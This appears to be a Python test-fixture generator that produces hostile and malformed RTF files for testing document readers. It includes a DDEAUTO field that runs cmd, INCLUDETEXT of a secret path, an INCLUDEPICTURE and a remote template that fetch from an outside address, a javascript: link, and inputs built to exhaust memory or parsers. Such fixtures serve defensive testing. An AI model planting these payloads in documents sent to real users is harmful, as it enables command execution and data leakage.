"""Rich texts: depths, lengths that lie, objects, fields."""

from __future__ import annotations

from collections.abc import Iterator

from hostile.making import FORMULAS, MARKUP, READ, TURNED, Made, rtf

SAID = READ + "\\par "


def files(secret: str, address: str) -> Iterator[Made]:
    """All of them."""
    yield Made("groups-900-deep.rtf", rtf(SAID + "{" * 900 + "inside" + "}" * 900))
    yield Made("groups-200000-deep.rtf", rtf(SAID + "{" * 200_000), "corrupt|cut")
    yield Made("bytes-to-skip.rtf", rtf(SAID + "{\\*\\x\\bin999999999 }" + "after\\par"), "read|cut")
    yield Made("binary.rtf", rtf(SAID) + b"{\\pict\\bin10 }}}}}}}}}}" + bytes(range(256)), "read|cut")
    yield Made("object.rtf", rtf(SAID + "{\\object\\objocx{\\*\\objdata " + "0105000002000000" * 50_000 + "}}"))
    fields = ('DDEAUTO cmd "/k calc"', f'INCLUDETEXT "{secret}"', f'INCLUDEPICTURE "{address}/rtf"', 'HYPERLINK "javascript:x"')  # fmt: skip
    yield Made("fields.rtf", rtf(SAID + "".join("{\\field{\\*\\fldinst " + one.replace("\\", "\\\\") + "}{\\fldrslt }}" for one in fields)))  # fmt: skip
    yield Made("template-from-afar.rtf", rtf("{\\*\\template " + address + "/t.dotm}" + SAID))
    row = "\\trowd\\cellx999999999\\cellx-5 a\\cell b\\cell\\row "
    yield Made("cells-of-odd-widths.rtf", rtf(SAID + row * 20_000), "read|cut")
    yield Made("cells-without-rows.rtf", rtf(SAID + "\\cellx1" * 200_000 + "\\intbl x\\cell" * 200_000), "read|cut")
    yield Made("signs.rtf", rtf(SAID + "\\u-9999?\\u55357?\\u999999999?\\uc9999 x\\par " + "".join(f"\\u{ord(c)}?" for c in TURNED)), "read|cut")  # fmt: skip
    yield Made("formulas-and-markup.rtf", rtf(SAID + "\\par ".join((MARKUP, *(f.strip() for f in FORMULAS)))))
    yield Made("not-closed.rtf", rtf(SAID)[:-1], "cut")
    yield Made("words-of-no-end.rtf", rtf(SAID + "\\" + "a" * 1_000_000 + " \\b" + "9" * 1_000_000), "read|cut")
